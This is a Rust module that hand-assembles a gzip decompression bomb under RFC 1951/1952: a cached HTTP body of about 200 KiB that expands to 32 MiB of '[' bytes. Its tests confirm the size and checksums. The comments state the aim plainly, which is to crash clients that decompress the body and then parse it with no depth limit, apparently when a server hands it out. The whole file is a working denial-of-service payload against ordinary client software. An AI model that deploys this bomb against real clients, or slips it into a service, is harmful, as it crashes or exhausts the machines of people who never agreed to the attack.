//! A gzip bomb, written by hand: it needs no compressor to say "the same byte again".
//!
//! RFC 1952 for the frame, RFC 1951 for the one block with fixed Huffman codes.

use std::sync::OnceLock;

use hyper::body::Bytes;

/// The byte that is repeated: a client that unpacks it and parses what comes, without a limit
/// on depth, falls twice.
const BYTE: u8 = b'[';
/// The bomb unpacks to two to the power of this many bytes: 32 MiB.
const DOUBLINGS: u32 = 25;
/// Longest repetition that one code can ask for.
const LONGEST: u64 = 258;
/// Polynomial of CRC-32, its bits reversed.
const POLYNOMIAL: u32 = 0xedb8_8320;

/// A body of about 200 KiB that unpacks to 32 MiB.
pub(super) fn bomb() -> Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(|| pack(DOUBLINGS).into()).clone()
}

/// The byte, two to the power of `doublings` times, as a gzip file.
fn pack(doublings: u32) -> Vec<u8> {
    let length = 1_u64 << doublings;
    let mut bits = Bits::default();
    // The last block, with fixed codes.
    bits.push(0b011, 3);
    let repetitions = (length - 1) / LONGEST;
    let literals = length - repetitions * LONGEST;
    for _ in 0..literals {
        bits.push_code(0x30 + u32::from(BYTE), 8);
    }
    for _ in 0..repetitions {
        // Length 258 is code 285 without extra bits; distance 1 is code 0.
        bits.push_code(0xc5, 8);
        bits.push_code(0, 5);
    }
    // The end of the block.
    bits.push_code(0, 7);
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    file.extend(bits.finish());
    file.extend(crc(doublings).to_le_bytes());
    #[expect(
        clippy::cast_possible_truncation,
        reason = "the frame has the length modulo 2^32"
    )]
    file.extend((length as u32).to_le_bytes());
    file
}

/// Bits, packed from the lowest one of each byte.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    open: u32,
    count: u32,
}

impl Bits {
    /// Appends a number of `length` bits, the lowest one first.
    fn push(&mut self, bits: u32, length: u32) {
        self.open |= bits << self.count;
        self.count += length;
        while self.count >= 8 {
            self.bytes.extend(self.open.to_le_bytes().first());
            self.open >>= 8;
            self.count -= 8;
        }
    }

    /// Appends a Huffman code, the highest bit first.
    fn push_code(&mut self, code: u32, length: u32) {
        self.push(code.reverse_bits() >> (32 - length), length);
    }

    fn finish(mut self) -> Vec<u8> {
        self.push(0, 7);
        self.bytes
    }
}

/// CRC-32 of the byte, two to the power of `doublings` times. What a run of bytes does to the
/// register is a matrix and a constant over the field of two elements; applied to itself, it
/// is what twice as many bytes do.
fn crc(doublings: u32) -> u32 {
    let step = |register: u32| {
        (0..8).fold(register, |register, _| {
            (register >> 1) ^ if register & 1 == 1 { POLYNOMIAL } else { 0 }
        })
    };
    let apply = |matrix: &[u32; 32], register: u32| {
        let bits = (0..)
            .zip(matrix)
            .filter(|(bit, _)| register >> bit & 1 == 1);
        bits.fold(0, |sum, (_, column)| sum ^ column)
    };
    let mut matrix = [0; 32];
    for (bit, column) in (0..).zip(&mut matrix) {
        *column = step(1 << bit);
    }
    let mut constant = step(u32::from(BYTE));
    for _ in 0..doublings {
        constant ^= apply(&matrix, constant);
        matrix = matrix.map(|column| apply(&matrix, column));
    }
    !(apply(&matrix, u32::MAX) ^ constant)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Unpacks what [`pack`] can write: one block of literals and runs of the last byte.
    fn unpacked(file: &[u8]) -> u64 {
        let bits: Vec<u8> = file[10..file.len() - 8]
            .iter()
            .flat_map(|byte| (0..8).map(move |bit| byte >> bit & 1))
            .collect();
        let code = |at: usize, length: usize| {
            let bits = &bits[at..at + length];
            bits.iter()
                .fold(0_u32, |code, bit| code << 1 | u32::from(*bit))
        };
        assert_eq!(&bits[..3], [1, 1, 0]);
        let (mut at, mut length) = (3, 0);
        loop {
            match code(at, 8) {
                0x8b => (at, length) = (at + 8, length + 1),
                0xc5 => {
                    assert_eq!(code(at + 8, 5), 0);
                    (at, length) = (at + 13, length + LONGEST);
                }
                _ => {
                    assert_eq!(code(at, 7), 0);
                    assert!(bits.len() - at - 7 < 8);
                    return length;
                }
            }
        }
    }

    #[test]
    fn it_is_small_and_unpacks_to_32_mib() {
        let bomb = bomb();
        assert!(bomb.len() < 256 << 10, "{}", bomb.len());
        assert_eq!(unpacked(&bomb), 32 << 20);
        assert_eq!(bomb[bomb.len() - 4..], (32_u32 << 20).to_le_bytes());
    }

    #[test]
    fn checksums_are_those_of_other_programs() {
        // Computed with Python's zlib.crc32(b"[" * n).
        for (doublings, sum) in [
            (0, 0x2ebb_67f1),
            (1, 0xe42f_1e1c),
            (9, 0xf798_d671),
            (25, 0xb93a_3b1f),
        ] {
            assert_eq!(crc(doublings), sum, "{doublings}");
        }
    }
}
